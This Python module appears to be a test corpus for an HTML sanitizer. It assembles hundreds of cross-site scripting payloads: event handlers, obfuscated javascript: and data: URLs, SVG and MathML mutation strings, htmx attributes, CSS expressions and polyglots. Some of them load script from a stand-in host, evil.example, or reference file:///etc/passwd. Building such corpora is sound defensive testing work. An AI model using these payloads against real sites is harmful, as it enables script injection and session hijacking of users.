"""Stored script, in the many ways that were ever tried: strings that must leave nothing alive.

Composed of lists, so that every kind meets every place it can stand in. ``CORPUS`` holds distinct
strings only.
"""

from __future__ import annotations

ALERT = "alert(1)"

# Event handlers, old and new, on elements that fire without help.
HANDLERS = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput"
    " onbeforeprint onbeforetoggle onbeforeunload onblur oncanplay onchange onclick "
    " oncontextmenu oncopy oncut ondblclick ondrag ondragend ondragenter ondragleave"
    " ondragover ondragstart ondrop onended onerror onfocus onfocusin onfocusout onfullscreenchange"
    " onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadend onloadstart"
    " onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup"
    " onpageshow onpaste onplay onpointerdown onpointerover onpopstate onreset onresize onscroll"
    " onscrollend onsearch onselect onshow onstart onsubmit ontoggle ontouchstart ontransitionend"
    " onunload onwheel"
).split()

# Addresses that run, spelled in ways that some reader once let pass. None but a browser decides
# what runs, so none of them may stay a link.
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "&#1;javascript:alert(1)",
    "\x01javascript:alert(1)", "\x00javascript:alert(1)", "\ufeffjavascript:alert(1)",
    "javascript:%61lert(1)", "javascript://example.org/%0aalert(1)", "javascript:void(alert(1))",
    "vbscript:msgbox(1)", "VbScRiPt:msgbox(1)", "vbs\tcript:msgbox(1)", "livescript:alert(1)",
    "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:,alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,<x/>",
    "DATA:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "blob:https://example.org/1", "filesystem:https://example.org/1", "file:///etc/passwd",
    "view-source:javascript:alert(1)", "jar:https://example.org/a.jar!/b", "feed:javascript:alert(1)",
    "about:blank", "intent://x#Intent;scheme=javascript;end", "//evil.example", "/\\evil.example",
    "\\\\evil.example\\share", "x:y", "ms-msdt:/id", "tel:1", "ftp://example.org/x",
)  # fmt: skip

CARRIERS = (
    '<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</form>',
    '<q data-fact="{}">x</q>',
)  # fmt: skip

# Elements that act, or that change how what follows is read.
ELEMENTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=//evil.example>",
    "<script\n>alert(1)</script\n>", "<script>alert(1)", "<script type=module>import '//evil.example'</script>",
    "<script type=importmap>{}</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script\x00>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>/*</script><img src=x onerror=alert(1)>*/", "</script><script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>", "<frameset onload=alert(1)><frame src=//evil.example>",
    "<object data=//evil.example/x.swf></object>", "<object type=text/x-scriptlet data=//evil.example></object>",
    "<object><param name=src value=javascript:alert(1)></object>", "<embed src=//evil.example/x.swf>",
    "<embed src=javascript:alert(1)>", "<applet code=x.class></applet>", "<base href=//evil.example/>",
    "<base href='javascript:alert(1)//'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta http-equiv=Set-Cookie content=a=b>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>", "<link rel=preload as=script href=//evil.example/x.js>",
    "<link rel=attachment href=file:///etc/passwd>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<style>body{-moz-binding:url(//evil.example#x)}</style>",
    "<style><!--</style><script>alert(1)//--></script>", "<style></style><img src=x onerror=alert(1)></style>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<button formaction=javascript:alert(1)>x</button>", "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<input type=image formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>", "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>", "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>", "<dialog open onclose=alert(1)>x</dialog>",
    "<video><source onerror=alert(1)></video>", "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>", "<track src=x>", "<picture><source srcset=x><img onerror=alert(1) src=x></picture>",
    "<img srcset='x 1x' onerror=alert(1)>", "<img src=x:x onerror=alert(1)//>", "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>", "<img src='x'onerror=alert(1)>", "<img \x0csrc=x\x0conerror=alert(1)>",
    "<img src=x onerror\t=\talert(1)>", "<img src=x onerror\n=alert(1)>", "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror='alert`1`'>", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>", "<image src=x onerror=alert(1)>", "<image href=x onerror=alert(1)>",
    "<img usemap=#m><map name=m><area href=javascript:alert(1) coords=0,0,9,9></map>",
    "<body onload=alert(1)>", "<body background=javascript:alert(1)>", "<body onpageshow=alert(1)>", "<html onmouseover=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>", "<td background=javascript:alert(1)>x</td>",
    "<marquee onstart=alert(1)>x</marquee>", "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>", "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example></layer>", "<ilayer src=//evil.example></ilayer>", "<xml id=x><a><b>&lt;img src=x onerror=alert(1)&gt;</b></a></xml>",
    "<portal src=//evil.example></portal>", "<fencedframe src=//evil.example></fencedframe>", "<slot onslotchange=alert(1)></slot>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>", "<p is=evil-thing>x</p>", "<p contenteditable autofocus onfocus=alert(1)>x</p>",
    "<p popover id=x ontoggle=alert(1)>x</p>", "<p style='animation:x' onanimationstart=alert(1)>x</p>", "<p tabindex=0 autofocus onfocus=alert(1)>x</p>",
    "<p accesskey=x onclick=alert(1)>x</p>", "<a ping=//evil.example href=https://example.org>x</a>", "<a href=https://example.org target=_blank onclick=alert(1)>x</a>",
    "<a download href=https://example.org>x</a>", "<a xlink:href=javascript:alert(1)>x</a>", "<p id=location name=cookie>x</p>",
    "<form name=body><input name=innerHTML></form>", "<a id=defaultView href=https://example.org>x</a>",
)  # fmt: skip

# Another namespace: what SVG and MathML bring along.
FOREIGN = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href=//evil.example /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#y /></svg>",
    "<svg><use xlink:href='file:///etc/passwd'/></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><image href=javascript:alert(1) /></svg>", "<svg><style>@import '//evil.example/x.css'</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><script>alert(1)</script></desc></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
    "<svg><discard onbegin=alert(1)>", "<svg xmlns:xlink=x><feImage xlink:href=javascript:alert(1) /></svg>",
    "<svg><p><style><img src=x onerror=alert(1)>", "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=data:x>x</mi></math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><mglyph><style><![CDATA[</style><img title=']]&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></style></h1>",
    "<svg><math><title><style><img src=x onerror=alert(1)></style></title></math></svg>",
)  # fmt: skip

# Mutation: read twice, it means something else.
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>", "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<p title='<!--'><img src=x onerror=alert(1)>-->", "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<!ENTITY x 'y'><img src=x onerror=alert(1)>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>", "<? foo='><script>alert(1)</script>'>", "<! foo='><script>alert(1)</script>'>",
    "</ foo='><script>alert(1)</script>'>", "<% foo><x foo='%><script>alert(1)</script>'>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->", "<![if !supportLists]><img src=x onerror=alert(1)><![endif]>",
    "<title><img src=x onerror=alert(1)></title>", "<title></title><img src=x onerror=alert(1)>", "<textarea><img src=x onerror=alert(1)></textarea>",
    "<textarea></textarea><img src=x onerror=alert(1)>", "<xmp><img src=x onerror=alert(1)></xmp>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>", "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>", "<p>&lt;img src=x onerror=alert(1)&gt;",
    "<sup data-note='&lt;img src=x onerror=alert(1)&gt;'>*</sup>", "<sup data-note=\"'><img src=x onerror=alert(1)>\">*</sup>", "<sup data-note='x\" onclick=\"alert(1)'>*</sup>",
    "<sup data-note='x' onclick=alert(1) hx-get=/x>*</sup>", "<sup data-note='&#34;&gt;<script>alert(1)</script>'>*", "<q data-fact='a:b@0123456789ab\" onclick=\"alert(1)'>x</q>",
    "<q data-fact='a:b@0123456789ab' onclick=alert(1)>x</q>", "<q cite=javascript:alert(1)>x</q>", "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<p><a href='https://example.org/\" onclick=\"alert(1)'>x</a>", "<a href='https://example.org/&quot; onclick=&quot;alert(1)'>x</a>", "<a href=\"https://example.org/<script>alert(1)</script>\">x</a>",
    "<a href='https://example.org' style='x:expression(alert(1))'>x</a>", "<b><p><b><script>alert(1)</script>", "<a><b></a><a></b><img src=x onerror=alert(1)>",
    "<table><td><script>alert(1)</script>", "<table><script>alert(1)</script><tr><td>x", "<select><script>alert(1)</script></select>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>", "<p/onclick=alert(1)>x", "<p\x0bonclick=alert(1)>x", "<p/\x00onclick=alert(1)>x",
    "<p a='>' onclick=alert(1)>x", "<p a=\">\" onclick=alert(1)>x", "<p =onclick=alert(1)>x", "<p ' onclick=alert(1) '>x", "<p \"onclick=alert(1)\">x",
    "<p onclick=alert(1)", "<p onclick='alert(1)", "<img src=x onerror=alert(1)", "<img src=\"x\" title=\"`onerror=alert(1)", "<p class=\"x\"\"onclick=alert(1)>x",
    "<\u017fcript>alert(1)</\u017fcript>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<p>\u2028<script>alert(1)</script>", "<p\u0338 onclick=alert(1)>x",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", "&#60script&#62alert(1)&#60/script&#62", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p>\ud800<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "<p v-html='x' x-data='alert(1)' ng-app ng-init=alert(1)>x</p>", "<p @click=alert(1) :href=x #x>x</p>",
)  # fmt: skip

# htmx acts on attributes; the policy for scripts does not stop it.
HTMX = tuple(
    f"<p {prefix}{name}='{value}' {prefix}trigger=load>x</p>"
    for prefix in ("hx-", "data-hx-", "HX-", "Data-HX-", "hx\x00-", "x=y hx-")
    for name, value in (
        ("get", "/efforts/"), ("post", "/accounts/logout/"), ("put", "/x"), ("delete", "/x"), ("patch", "/x"),
        ("on:click", "alert(1)"), ("on", "load: alert(1)"), ("vals", "js:{a:alert(1)}"), ("headers", "js:{a:alert(1)}"),
        ("ext", "x"), ("boost", "true"), ("swap-oob", "true"), ("disinherit", "*"), ("include", "*"),
    )
)  # fmt: skip

STYLES = tuple(
    f'<p style="{css}">x</p>'
    for css in (
        "background:url(javascript:alert(1))", "background:url(//evil.example/x)", "width:expression(alert(1))", "width:exp/**/ression(alert(1))",
        "behavior:url(#default#time2)", "-moz-binding:url(//evil.example#x)", "position:fixed;inset:0;z-index:9", "background:\\75\\72\\6c(//evil.example)",
        "list-style:url(javascript:alert(1))", "@import '//evil.example'", "content:url(data:image/svg+xml,x)", "mso-list:l0 level1 lfo1;background:url(//evil.example)",
        "font-weight:bold;}</style><script>alert(1)</script>", "x:y;--a:{};filter:url(//evil.example#x)",
    )
) + (
    "<span style='mso-list:Ignore'><script>alert(1)</script></span>", "<div id=ftn1 style='mso-element:footnote'><img src=x onerror=alert(1)>x</div><a href='#_ftn1'>1</a>",
    "<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·</span><img src=x onerror=alert(1)>x</p>",
    "<div id=ftn1 class=MsoFootnoteText>\"><script>alert(1)</script></div><a href='#_ftn1'>1</a>", "<o:p onclick=alert(1)>x</o:p>",
    "<v:shape xmlns:v=urn:schemas-microsoft-com:vml onload=alert(1)>", "<font color=\"red\" onmouseover=alert(1)>x</font>", "<center onclick=alert(1)>x</center>",
)  # fmt: skip

POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\">><marquee><img src=x onerror=confirm(1)></marquee>\" ></plaintext\\></|\\><plaintext/onmouseover=prompt(1) ><script>prompt(1)</script>",
    "'\"--></style></script><svg oNload=alert(1)//", "';alert(String.fromCharCode(88,83,83))//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "<img src=x onerror=alert(1)//><svg/onload=alert(1)//><iframe/src=javascript:alert(1)//>", "--></noscript></title></textarea></style></template></xmp><svg/onload=alert(1)>",
    "\" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//", "<a href=\"javascript&colon;alert&lpar;1&rpar;\"><svg/onload=alert(1)>x", "</p></td></tr></table><script>alert(1)</script><table><tr><td><p>",
    "<details/open/ontoggle=\"self['ale'%2B'rt'](1)\">", "<x/onpointerrawupdate=alert(1)//x>", "<x onclick=alert(1) src=a>Click</x>",
)  # fmt: skip

CORPUS: tuple[str, ...] = tuple(dict.fromkeys([
    *(f"<img src=x {name}={ALERT}>" for name in HANDLERS),
    *(f"<p {name.upper()}='{ALERT}'>x</p>" for name in HANDLERS[::2]),
    *(f"<svg {name}={ALERT}></svg>" for name in HANDLERS[::5]),
    *(carrier.format(address) for carrier in CARRIERS for address in ADDRESSES),
    *ELEMENTS, *FOREIGN, *MUTATIONS, *HTMX, *STYLES, *POLYGLOTS,
]))  # fmt: skip
